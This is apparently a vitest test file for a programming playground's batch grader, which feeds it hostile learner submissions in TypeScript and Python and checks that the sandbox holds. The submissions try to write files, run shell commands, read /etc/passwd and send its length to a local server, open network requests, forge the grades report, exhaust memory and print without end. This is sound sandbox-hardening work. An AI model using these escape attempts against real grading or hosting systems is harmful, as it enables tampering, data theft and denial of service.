/**
 * Hostile submissions in a teacher's batch (issue #33): learners' files whose code tries to write and read the
 * grading machine's files, start processes, reach a server on 127.0.0.1, rewrite the reports after the batch,
 * exhaust memory and print without end, in TypeScript and in Python, beside honest files. `npm run grade --
 * --batch` runs it all in the built site's sandbox in headless Chromium: nothing outside the report folder
 * changes, no process outlives the command, no request reaches the server, and every row is its true grade.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { execFile } from 'node:child_process';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { parse } from 'csv-parse/sync';
import { entry, submissionText } from '../src/test/fixtures/submissionFolder';
import { exercise } from './support/exercise';
import { CHROMIUM_PATH } from './support/browser';
import { ROOT } from './support/server';

const run = promisify(execFile);

let dir: string;
let sentinel: string;
let out: string;
let server: Server;
let serverUrl: string;
const hits: string[] = [];
let stdout = '';
let rows: Record<string, string>[] = [];
/**
 * Set in the grading command's environment, which every process it starts inherits (Chromium's included, and any
 * a submission might start): the processes left behind are found by it, not mistaken for another test's browser.
 */
const MARK_NAME = 'PLAYGROUND_GRADE_TEST';
const PROCESS_MARK = `${MARK_NAME}=${process.pid}-${Date.now()}`;
/** Chromium's processes seen carrying the mark while the command ran: proof that the mark reaches them. */
const markedBrowsers = new Set<string>();

/** The processes on this machine that carry PROCESS_MARK, as "pid command line" lines (Linux's /proc). */
function markedProcesses(): string[] {
  const found: string[] = [];
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    try {
      if (!readFileSync(`/proc/${pid}/environ`, 'latin1').split('\0').includes(PROCESS_MARK)) continue;
      found.push(`${pid} ${readFileSync(`/proc/${pid}/cmdline`, 'latin1').split('\0').join(' ').trim()}`);
    } catch {
      // Gone between the listing and the read, or not ours to read: not left behind by the command.
    }
  }
  return found;
}

/** Everything under `folder`, as relative paths. */
function listing(folder: string): string[] {
  return readdirSync(folder, { recursive: true, encoding: 'utf8' }).sort();
}

/** TypeScript that tries every door out of the sandbox, each in a try, at load and again in every call. */
const tsDoors = () => `
const SENTINEL = ${JSON.stringify(sentinel)};
const SERVER = ${JSON.stringify(serverUrl)};
const OUT = ${JSON.stringify(out)};
function tryDoors(tag: string) {
  const attempts: (() => unknown)[] = [
    () => (Function('return process')() as any).getBuiltinModule('fs').writeFileSync(SENTINEL + '/ts-fs-' + tag, 'x'),
    () => (globalThis as any).process.getBuiltinModule('child_process').execSync('touch ' + SENTINEL + '/ts-exec-' + tag),
    () => (globalThis as any).require('fs').writeFileSync(SENTINEL + '/ts-require-' + tag, 'x'),
    () => import('node:fs').then((fs: any) => fs.writeFileSync(SENTINEL + '/ts-import-' + tag, 'x')),
    () => fetch(SERVER + '/ts-fetch-' + tag),
    () => { const x = new XMLHttpRequest(); x.open('GET', SERVER + '/ts-xhr-' + tag, false); x.send(); },
    () => new WebSocket(SERVER.replace('http', 'ws') + '/ts-ws-' + tag),
    () => new EventSource(SERVER + '/ts-sse-' + tag),
    () => (navigator as any).sendBeacon(SERVER + '/ts-beacon-' + tag, 'x'),
    () => (globalThis as any).importScripts(SERVER + '/ts-script-' + tag),
    () => fetch('file:///etc/passwd').then((r) => r.text()).then((t) => fetch(SERVER + '/ts-leak-' + t.length)),
    // Rewrite the reports once the batch has written them.
    () => setInterval(() => { try { (Function('return process')() as any).getBuiltinModule('fs').writeFileSync(OUT + '/grades.csv', 'forged'); } catch {} }, 5),
  ];
  for (const attempt of attempts) {
    try { const p = attempt() as any; if (p && typeof p.catch === 'function') p.catch(() => {}); } catch {}
  }
}
tryDoors('load');
`;

/** Python that tries every door out of the sandbox, each in a try, at load and again in every call. */
const pyDoors = () => `
import os, socket, subprocess
SENTINEL = ${JSON.stringify(sentinel)}
SERVER = ${JSON.stringify(serverUrl)}
PORT = ${new URL(serverUrl).port}

def try_doors(tag):
    attempts = [
        lambda: open(SENTINEL + "/py-open-" + tag, "w").write("x"),
        lambda: os.system("touch " + SENTINEL + "/py-system-" + tag),
        lambda: subprocess.run(["touch", SENTINEL + "/py-subprocess-" + tag]),
        lambda: __import__("urllib.request").request.urlopen(SERVER + "/py-urllib-" + tag),
        lambda: socket.create_connection(("127.0.0.1", PORT)).sendall(b"GET /py-socket HTTP/1.0\\r\\n\\r\\n"),
        lambda: __import__("js").fetch(SERVER + "/py-js-" + tag),
        lambda: __import__("pyodide.http").http.open_url(SERVER + "/py-open-url-" + tag),
        lambda: open("/etc/passwd").read(),
    ]
    for attempt in attempts:
        try:
            attempt()
        except BaseException:
            pass

try_doors("load")
`;

/** The reference's function with the doors tried before each call: correct code, however hostile. */
const tsCorrectButHostile = () =>
  `${tsDoors()}\n${exercise.solution.replace(/export function parseToolCalls\(([^)]*)\)([^{]*)\{/, (all) => `${all}\n  tryDoors('call');`)}`;
const pyCorrectButHostile = () =>
  `${pyDoors()}\n${exercise.python!.solution.replace(/def parse_tool_calls\(([^)]*)\)([^:]*):/, (all) => `${all}\n    try_doors("call")`)}`;

const submissions = () => ({
  'ada-honest': [
    entry('parse-tool-calls', 'typescript', exercise.solution, true),
    entry('parse-tool-calls', 'python', exercise.python!.solution, true),
  ],
  'mallory-doors': [
    entry('parse-tool-calls', 'typescript', `${tsDoors()}\nexport function parseToolCalls() { tryDoors('call'); return []; }`, true),
  ],
  'mallory-doors-py': [
    entry(
      'parse-tool-calls',
      'python',
      `${pyDoors()}\ndef parse_tool_calls(text, registry):\n    try_doors("call")\n    return []\n`,
      true,
    ),
  ],
  'mallory-correct': [
    entry('parse-tool-calls', 'typescript', tsCorrectButHostile()),
    entry('parse-tool-calls', 'python', pyCorrectButHostile()),
  ],
  'mallory-memory': [
    entry(
      'parse-tool-calls',
      'typescript',
      'export function parseToolCalls() { const a: number[][] = []; for (;;) a.push(new Array(1e6).fill(1)); }',
    ),
    entry(
      'parse-tool-calls',
      'python',
      'def parse_tool_calls(text, registry):\n    hoard = []\n    while True:\n        hoard.append(bytearray(10 ** 7))\n',
    ),
  ],
  'mallory-prints': [
    entry('parse-tool-calls', 'typescript', "export function parseToolCalls() { for (;;) console.log('x'.repeat(100_000)); }"),
    entry(
      'parse-tool-calls',
      'python',
      'def parse_tool_calls(text, registry):\n    print("x" * 300_000_000)\n    while True:\n        print("y" * 100_000)\n',
    ),
  ],
});

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'grade-hostile-'));
  sentinel = join(dir, 'teacher-files');
  out = join(dir, 'reports');
  mkdirSync(sentinel);
  writeFileSync(join(sentinel, 'other-learner.submission.json'), 'a file no learner may read or change');
  server = createServer((request, response) => {
    hits.push(request.url ?? '');
    response.end('hit');
  });
  server.on('upgrade', (request, socket) => {
    hits.push(`upgrade ${request.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  serverUrl = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  mkdirSync(join(dir, 'submissions'));
  for (const [name, entries] of Object.entries(submissions())) {
    writeFileSync(join(dir, 'submissions', `${name}.submission.json`), await submissionText(name, entries));
  }
  const grading = run(process.execPath, ['--import', 'tsx', 'scripts/grade.ts', '--batch', join(dir, 'submissions'), '--out', out], {
    cwd: ROOT,
    env: { ...process.env, PLAYGROUND_CHROMIUM: CHROMIUM_PATH, [MARK_NAME]: PROCESS_MARK.slice(MARK_NAME.length + 1) },
    maxBuffer: 64 * 1024 * 1024,
  });
  // Sampled while it runs (Chromium lives for the whole batch): what carries the mark then is the command's own.
  const sampling = setInterval(() => {
    for (const line of markedProcesses()) if (/chrom(e|ium)/i.test(line)) markedBrowsers.add(line);
  }, 250);
  await grading.finally(() => clearInterval(sampling)).catch(() => undefined);
  const graded = await grading;
  stdout = graded.stdout;
  rows = parse(readFileSync(join(out, 'grades.csv'), 'utf8'), { columns: true }) as Record<string, string>[];
}, 600_000);

afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
  rmSync(dir, { recursive: true, force: true });
});

describe('npm run grade -- --batch with hostile submissions', () => {
  it('gives every row its true grade: honest and correct code passes, hostile and wrong code fails', () => {
    const grades = rows.map((row) => [row.learner, row.language, row.status]);
    expect(grades).toEqual([
      ['ada-honest', 'typescript', 'passed'],
      ['ada-honest', 'python', 'passed'],
      ['mallory-correct', 'typescript', 'passed'],
      ['mallory-correct', 'python', 'passed'],
      ['mallory-doors-py', 'python', 'failed'],
      ['mallory-doors', 'typescript', 'failed'],
      ['mallory-memory', 'typescript', 'failed'],
      ['mallory-memory', 'python', 'failed'],
      ['mallory-prints', 'typescript', 'failed'],
      ['mallory-prints', 'python', 'failed'],
    ]);
    // The browser's own verdict claimed a pass for the door-trying files: the regrade is what counts.
    expect(rows.find((row) => row.learner === 'mallory-doors')).toMatchObject({ browser_verdict: 'passed', browser_agrees: 'no' });
    expect(stdout).not.toContain('grader-error');
  });

  it('changes nothing outside the report folder, and the reports are the grader’s', () => {
    expect(listing(sentinel)).toEqual(['other-learner.submission.json']);
    expect(readFileSync(join(sentinel, 'other-learner.submission.json'), 'utf8')).toBe('a file no learner may read or change');
    expect(listing(dir).filter((path) => !path.startsWith('reports') && !path.startsWith('submissions'))).toEqual([
      'teacher-files',
      'teacher-files/other-learner.submission.json',
    ]);
    expect(listing(out)).toEqual(['grades.csv', 'grades.json', 'junit.xml']);
    expect(readFileSync(join(out, 'grades.csv'), 'utf8')).toMatch(/^learner,course,exercise,language,status/);
  });

  it('lets no request reach a server on 127.0.0.1', () => {
    expect(hits).toEqual([]);
  });

  it('leaves no process behind once the command has exited', async () => {
    // Chromium's processes end with the browser; the wait is for the system to reap the last of them.
    expect(markedBrowsers.size, 'Chromium ran with the mark the check below looks for').toBeGreaterThan(0);
    await expect.poll(markedProcesses, { timeout: 15_000 }).toEqual([]);
  });
});
